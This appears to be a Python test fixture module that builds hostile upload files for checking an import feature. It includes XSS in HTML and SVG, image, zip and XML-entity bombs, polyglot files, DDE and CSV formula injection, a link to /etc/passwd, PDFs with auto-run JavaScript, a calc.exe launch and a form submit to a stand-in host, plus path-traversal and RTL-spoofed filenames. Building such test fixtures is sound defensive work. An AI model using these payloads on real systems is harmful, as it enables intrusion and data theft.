"""Files that mean no good, each as somebody might send it: what it is called, and its bytes."""

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

from tests.makers.files import make_pdf, make_photo
from tests.makers.imports import HEADING, PEOPLE, a_csv, a_package, a_xlsx, add_member, an_ods

HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ROW = "<table:table-row><table:table-cell{}><text:p>王小明</text:p></table:table-cell></table:table-row>"
BOMB = b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 1000 + b'"><!ENTITY c "' + b"&b;" * 1000 + b'">]>'
RTL = "\u202e"


def a_png_that_says(width: int, height: int) -> bytes:
    """A PNG of a few bytes that announces so many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def a_photo_with_a_place() -> bytes:
    """A JPEG whose EXIF says where it was taken, and by whom."""
    stream, exif = io.BytesIO(), Image.Exif()
    exif[0x013B] = "Wang Hsiao-ming"
    exif.get_ifd(0x8825).update({1: "N", 2: (22.0, 45.0, 3.0), 3: "E", 4: (121.0, 9.0, 1.0)})
    Image.new("RGB", (80, 60), "#ccddee").save(stream, "JPEG", exif=exif)
    return stream.getvalue()


def a_gif_that_is_a_page() -> bytes:
    """A GIF with a page behind it."""
    stream = io.BytesIO()
    Image.new("P", (80, 60)).save(stream, "GIF")
    return stream.getvalue() + HTML


def a_pdf_that(*, acts: dict[str, str] | None = None, attaches: bool = False) -> bytes:
    """A PDF that does something when it is opened, or has another file in it."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    if acts:
        action = DictionaryObject({NameObject("/S"): NameObject(acts["/S"])})
        action |= {NameObject(key): TextStringObject(one) for key, one in acts.items() if key != "/S"}
        writer._root_object[NameObject("/OpenAction")] = action
    if attaches:
        writer.add_attachment("x.exe", b"MZ")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def with_entities(package: bytes, part: str) -> bytes:
    """A package of which one part grows when it is read."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(package)) as found:
        members = {one.filename: found.read(one) for one in found.infolist()}
    head, _end, rest = members[part].partition(b"?>")
    members[part] = head + b"?>" + BOMB + rest.replace("王小明".encode(), b"&c;")
    return a_package(members)


def an_ods_that(formula: str = "", more: str = "") -> bytes:
    """A sheet with a formula in its first cell, or with something beside its rows."""
    cell = f' table:formula="{formula}" office:value-type="string"' if formula else ""
    return an_ods(more + ROW.format(cell))


SHEET = a_xlsx(HEADING, *PEOPLE)
PAGE_AS_PHOTO = ("照片.jpg", lambda: HTML)
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "html as jpg": PAGE_AS_PHOTO,
    "svg with script": ("logo.svg", lambda: SVG),
    "pixel bomb": ("big.png", lambda: a_png_that_says(20_000, 20_000)),
    "truncated jpeg": ("cut.jpg", lambda: make_photo((800, 600))[:700]),
    "jpeg and zip": ("both.jpg", lambda: make_photo() + a_package({"x.exe": b"MZ"})),
    "gif and html": ("both.gif", a_gif_that_is_a_page),
    "exif location": ("IMG_1.jpg", a_photo_with_a_place),
    "xlsm": ("list.xlsx", lambda: add_member(SHEET, "xl/vbaProject.bin", b"macro")),
    "ods with basic": ("list.ods", lambda: add_member(an_ods_that(), "Basic/Standard/Module1.xml", b"<x/>")),
    "zip bomb": ("list.ods", lambda: add_member(an_ods_that(), "Pictures/0.bin", bytes(310 << 20))),
    "entities in ods": ("list.ods", lambda: with_entities(an_ods_that(), "content.xml")),
    "entities in xlsx": ("list.xlsx", lambda: with_entities(SHEET, "xl/worksheets/sheet1.xml")),
    "dde in ods": ("list.ods", lambda: an_ods_that("of:=DDE(&quot;soffice&quot;;&quot;/a&quot;;&quot;a&quot;)")),
    "link in ods": ("list.ods", lambda: an_ods_that("of:=[&apos;file:///etc/passwd&apos;#$a.A1]")),
    "source in ods": ("list.ods", lambda: an_ods_that(more='<table:table-source table:table-name="a"/>')),
    "formula in csv": ("list.csv", lambda: a_csv(HEADING, ("=cmd|'/c calc'!A1", "據點", "幹部"))),
    "pdf with javascript": ("a.pdf", lambda: a_pdf_that(acts={"/S": "/JavaScript", "/JS": "app.alert(1)"})),
    "pdf with hidden javascript": (
        "a.pdf",
        lambda: a_pdf_that(acts={"/S": "/JavaScript", "/JS": "1"}).replace(b"/JavaScript", b"/J#61vaScript"),
    ),
    "pdf that launches": ("a.pdf", lambda: a_pdf_that(acts={"/S": "/Launch", "/F": "calc.exe"})),
    "pdf that sends": ("a.pdf", lambda: a_pdf_that(acts={"/S": "/SubmitForm", "/F": "http://x.example"})),
    "pdf with a file": ("a.pdf", lambda: a_pdf_that(attaches=True)),
    "wrong extension": ("list.jpg", lambda: SHEET),
    "program": ("list.ods", lambda: b"MZ\x90\x00" + bytes(200)),
    "name with a path": ("../../../etc/passwd.jpg", lambda: HTML),
    "name turned around": (f"photo{RTL}gpj.exe", lambda: HTML),
    "very long name": ("長" * 300 + ".jpg", lambda: HTML),
    "empty": ("a.jpg", lambda: b""),
}  # fmt: skip
